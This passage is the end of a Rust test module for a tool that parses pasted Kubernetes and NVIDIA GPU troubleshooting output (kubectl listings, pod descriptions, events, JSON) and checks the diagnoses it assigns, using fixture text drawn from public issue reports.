            "{:?}",
            evs.iter().map(|e| &e.target.name).collect::<Vec<_>>()
        );
        // Nor is a cluster tool's command above a listing where every Pod runs.
        for command in [
            "helm upgrade --install gpu-operator nvidia/gpu-operator -n gpu-operator",
            "$ microk8s enable gpu",
            "root@k8s-c1:~# kubectl get pods -A",
            "root@master:~# watch -n1 kubectl get pods",
            "root@node:~# crictl pods",
        ] {
            let paste = format!(
                "{command}\nNAME                   READY   STATUS    RESTARTS   AGE\ncuda-vectoradd         0/1     Completed 0          4m24s\ngpu-operator-c9778c77c 1/1     Running   1          34m\n"
            );
            let (_, evs) = parse(&paste, "x").unwrap();
            assert!(evs.iter().all(|e| e.target.name.is_some()), "{command}");
        }
        // A `: ` inside a command's quoted argument is no output.
        for command in [
            "$ kubectl patch clusterpolicy/cluster-policy --type merge -p '{\"spec\": {\"devicePlugin\": {\"enabled\": true}}}'",
            "root@master:~# kubectl get pods -o custom-columns='POD: .metadata.name,NODE: .spec.nodeName'",
        ] {
            let paste = format!(
                "{command}\nNAME                   READY   STATUS    RESTARTS   AGE\ncuda-vectoradd         0/1     Completed 0          4m24s\ngpu-operator-c9778c77c 1/1     Running   1          34m\n"
            );
            let (_, evs) = parse(&paste, "x").unwrap();
            assert!(evs.iter().all(|e| e.target.name.is_some()), "{command}");
        }
        // A cluster tool's command with what it printed after it, on the same line, is the message; an
        // apostrophe or quoted output in the reporter's words is no quoted argument.
        for line in [
            "root@node:~# don't know why: nvidia-smi Failed to initialize NVML: Driver/library version mismatch",
            "$ kubectl logs pod # it's broken: nvidia-container-cli: initialization error: nvml error: driver not loaded",
            "root@node:~# kubectl exec -it dcgm-exporter-abcde -- nvidia-smi \"Failed to initialize NVML: Driver/library version mismatch\"",
            "`microk8s enable gpu` printed: nvidia-container-cli: initialization error: nvml error: driver not loaded",
            "root@node:~# kubectl exec -it dcgm-exporter-abcde -- nvidia-smi Failed to initialize NVML: Driver/library version mismatch",
        ] {
            let paste = format!(
                "NAME                                 READY   STATUS     RESTARTS   AGE\ngpu-feature-discovery-abcde          0/1     Init:0/1   0          5m\nnvidia-device-plugin-daemonset-xyz12 0/1     Init:0/1   0          5m\n{line}\n"
            );
            let (_, evs) = parse(&paste, "x").unwrap();
            let d = crate::diagnose::diagnose(&evs[0]);
            assert!(
                matches!(
                    d.causes.first().and_then(|c| c.rule),
                    Some("GW406" | "GW436")
                ),
                "{line}: {d:?}"
            );
        }
    }

    #[test]
    fn error_records_pasted_one_after_another_are_read_as_text() {
        // A Karpenter ticket (aws/karpenter-provider-aws #7754): its `{"error": …}` records, pasted with the comma between
        // them, are no JSON document, but they carry the messages.
        let paste = std::fs::read_to_string(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/tests/fixtures/formats/error-records.txt"
        ))
        .unwrap();
        assert!(serde_json::from_str::<serde_json::Value>(&paste).is_err());
        let (format, evs) = parse(&paste, "x").unwrap();
        assert_eq!(format, Format::Text);
        let d = crate::diagnose::diagnose(&evs[0]);
        assert_eq!(d.causes[0].rule, Some("GW130"));
    }

    #[test]
    fn a_node_without_a_gpu_beside_one_with_a_gpu_says_nothing_of_the_plugin() {
        use crate::rules::Category;
        // Capacity blocks from NVIDIA/k8s-device-plugin #285 (no GPU) and #134 (one GPU).
        let no_gpu = "\
Capacity:
  cpu:                12
  ephemeral-storage:  959863856Ki
  hugepages-1Gi:      0
  hugepages-2Mi:      0
  memory:             16325228Ki
  pods:               110
Allocatable:
  cpu:                12
";
        let one_gpu = "\
Capacity:
 cpu:                 8
 ephemeral-storage:   75881276Ki
 hugepages-1Gi:       0
 hugepages-2Mi:       0
 memory:              16362632Ki
 nvidia.com/gpu:      1
Allocatable:
";
        let (_, evs) = parse(no_gpu, "x").unwrap();
        assert_eq!(
            crate::diagnose::diagnose(&evs[0]).primary,
            Category::DevicePlugin
        );
        let (_, evs) = parse(&format!("{no_gpu}{one_gpu}"), "x").unwrap();
        assert_ne!(
            crate::diagnose::diagnose(&evs[0]).primary,
            Category::DevicePlugin
        );
    }

    #[test]
    fn the_reporters_words_that_pods_run_do_not_outweigh_a_pod_shown_waiting() {
        use crate::rules::Category;
        let words = crate::rules::RULES
            .iter()
            .find(|r| r.id == "GW603")
            .unwrap()
            .example;
        let (_, evs) = parse(words, "x").unwrap();
        assert_eq!(crate::diagnose::diagnose(&evs[0]).primary, Category::None);
        // With a `get pods` row that shows the Pod Pending (from NVIDIA/k8s-device-plugin #176).
        let pending = format!(
            "$ kubectl get pods\nNAME      READY   STATUS    RESTARTS   AGE\ngpu-pod   0/2     Pending   0          24h\n\n{words}\n"
        );
        let (_, evs) = parse(&pending, "x").unwrap();
        assert_eq!(
            crate::diagnose::diagnose(&evs[0]).primary,
            Category::Unknown
        );
    }

    #[test]
    fn a_paste_that_shows_nothing_of_the_pod_is_unknown_not_healthy() {
        use crate::rules::Category;
        // Talos #1303 as cut short: node output, no Pod, no error.
        let silent = "\
I have installed the nvidia driver in talos linux Worker Node.
Capacity:
  cpu:                32
  hugepages-1Gi:      0
";
        let (_, evs) = parse(silent, "x").unwrap();
        let d = crate::diagnose::diagnose(&evs[0]);
        assert_eq!(d.primary, Category::Unknown);
        assert!(d.causes[0].summary.contains("does not say"));
        // ollama-helm #38: `describe pod` cut off before its Status: a name and a node, not a state.
        let cut = "Name:                open-webui-ollama-758499c94d-lj6p9
Namespace:           open-webui
Priority:            0
Runtime Class Name:  nvidia
Service Account:     open-webui-ollama
Node:                oscar/
Start Time:          Wed, 15 May 2024 07:35:22 -0500
";
        let (_, evs) = parse(cut, "x").unwrap();
        assert_eq!(
            crate::diagnose::diagnose(&evs[0]).primary,
            Category::Unknown
        );
        let (_, evs) = parse(&format!("{cut}Status:              Running\n"), "x").unwrap();
        assert_eq!(crate::diagnose::diagnose(&evs[0]).primary, Category::None);
        // Another object's status (a DRA ComputeDomain's) is not a Pod's phase.
        let domain = "Status:\n  Nodes:\n    Name: cluster1-mgx-00011\n    Status: NotReady\n  Status: NotReady\nEvents: <none>\n";
        let (_, evs) = parse(domain, "x").unwrap();
        assert_eq!(
            crate::diagnose::diagnose(&evs[0]).primary,
            Category::Unknown
        );
        // The Pod's own output, or its events, say that it got past its gates.
        let assigned = "2022-05-02T00:33:59.912858Z [Normal] Successfully assigned odh-jupyterhub/jupyterhub-nb-michaeltiemannosc to ip-10-0-252-130.ec2.internal\n";
        for shown in [
            "[root@ksmaster01 ~]# kubectl logs -f gpu-demo -n gpu\n[Vector addition of 50000 elements]\nTest PASSED\nDone\n",
            &format!(
                "{assigned}2022-05-02T00:34:02Z [Normal] AttachVolume.Attach succeeded for volume \"pvc-31520862\"\n"
            ),
            &format!("{assigned}2022-05-02T00:35:10Z [Normal] Started container notebook\n"),
            // The kubelet's word in the same pasted block as the scheduler's.
            "Successfully assigned default/gpu-pod to node1\nStarted container cuda\n",
            // A listing's STATUS that only the kubelet sets.
            "NAME        READY   STATUS    RESTARTS   AGE\ntrainer-0   1/1     Running   0          11m\n\nLAST SEEN   TYPE     REASON      OBJECT              MESSAGE\n11m         Normal   Scheduled   pod/trainer-0       Successfully assigned ml/trainer-0 to gpu-node-1\n",
            "Name:         trainer-0\nNamespace:    ml\nNode:         gpu-node-1/10.0.0.5\nStatus:       Running\nEvents:\n  Type    Reason     Age   From               Message\n  ----    ------     ----  ----               -------\n  Normal  Scheduled  11m   default-scheduler  Successfully assigned ml/trainer-0 to gpu-node-1\n",
        ] {
            let (_, evs) = parse(shown, "x").unwrap();
            assert_eq!(
                crate::diagnose::diagnose(&evs[0]).primary,
                Category::None,
                "{shown}"
            );
        }
        // Placed, and not a word since from the kubelet: where it went, not that it started; also after the
        // scheduler's own earlier word, which is not the kubelet's.
        let (_, evs) = parse(assigned, "x").unwrap();
        let d = crate::diagnose::diagnose(&evs[0]);
        assert_eq!(d.primary, Category::Unknown);
        assert!(
            d.causes[0]
                .summary
                .contains("placed on node ip-10-0-252-130.ec2.internal"),
            "{d:?}"
        );
        let waited = "Events:\n  Type     Reason            Age   From               Message\n  ----     ------            ----  ----               -------\n  Warning  FailedScheduling  12m   default-scheduler  0/3 nodes are available: 3 Insufficient nvidia.com/gpu.\n  Normal   Scheduled         11m   default-scheduler  Successfully assigned ml/trainer-0 to gpu-node-1\n";
        let (_, evs) = parse(waited, "x").unwrap();
        let d = crate::diagnose::diagnose(&evs[0]);
        assert_eq!(d.primary, Category::Unknown, "{d:?}");
        assert!(
            d.causes[0].summary.contains("placed on node gpu-node-1"),
            "{d:?}"
        );
    }

    #[test]
    fn wrong_kind_of_json_is_an_error() {
        let e = parse(
            r#"{"kind":"ConfigMap","apiVersion":"v1","metadata":{"name":"x"}}"#,
            "x",
        )
        .unwrap_err();
        assert!(e.to_string().contains("ConfigMap"), "{e}");
        assert!(parse("[1, 2, 3]", "x").is_err());
        assert!(
            parse("{\"kind\": ", "x")
                .unwrap_err()
                .to_string()
                .contains("invalid JSON")
        );
        assert!(parse("42", "x").is_ok(), "a bare number is text, not JSON");
        // Cut short inside a string, a key, or between values, and nothing after it: still invalid JSON.
        for cut in [
            "{\n  \"kind\": \"Node\",\n  \"status\": {\n    \"Capa",
            "{\n  \"kind\": \"Node\",\n  \"status\": {\n    \"capacity\": {\n      \"cpu\": \"4\",\n",
            "{\n  \"kind\": \"Node\",\n  \"items\": [\n    1 2\n  ]\n}",
            // A whole document with a string wrapped across lines, a comment, or an unquoted key.
            "{\n  \"kind\": \"Pod\",\n  \"status\": {\n    \"reason\": \"Unschedulable while\nwaiting for a node\",\n    \"phase\": \"Pending\"\n  }\n}",
            "{\n  \"kind\": \"Node\",\n// this is the GPU node we use\n  \"status\": {}\n}",
            "{\n  \"kind\": \"Pod\",\n  status: \"Pending phase waiting\"\n}",
        ] {
            assert!(
                parse(cut, "x")
                    .unwrap_err()
                    .to_string()
                    .contains("invalid JSON"),
                "{cut}"
            );
        }
    }

    #[test]
    fn json_cut_short_before_the_next_paste_is_read_as_text() {
        // kops #2493: a node's JSON broken off inside a key, then the node's `ps` line for the kubelet.
        let paste = "{\n  \"name\": \"ip-1-2-3-4\",\n  \"Status\": {\n    \"Capa\nroot      2758     1  0 19:23 ?        00:01:48 /usr/local/bin/kubelet --feature-gates=Accelerators=true\n";
        let (format, evs) = parse(paste, "x").unwrap();
        assert_eq!(format, Format::Text);
        assert!(
            evs[0]
                .signals
                .iter()
                .any(|s| s.message.contains("--feature-gates=Accelerators=true")),
            "{:?}",
            evs[0].signals
        );
    }

    #[test]
    fn a_tools_own_json_report_with_the_clusters_messages_is_read_as_text() {
        // No kind anywhere, and a message line the readers know: the report's lines are read.
        let report = "{\n  \"pods\": [\n    {\n      \"name\": \"gpu-c\",\n      \"phase\": \"Pending\",\n      \"conditions\": [\n        {\n          \"message\": \"0/1 nodes are available: 1 Insufficient nvidia.com/gpu.shared.\",\n          \"reason\": \"Unschedulable\"\n        }\n      ]\n    }\n  ]\n}";
        let (format, evs) = parse(report, "x").unwrap();
        assert_eq!(format, Format::Text);
        let d = &crate::diagnose::diagnose_all(&evs)[0];
        assert_eq!(d.primary.as_str(), "insufficient-resource");
        // A kind of another sort, or nothing the readers could use, stays an error.
        assert!(parse("{\"kind\": \"ConfigMap\",\n \"message\": \"x\"}", "x").is_err());
        assert!(parse("{\"name\": \"gpu-c\"}", "x").is_err());
    }
}
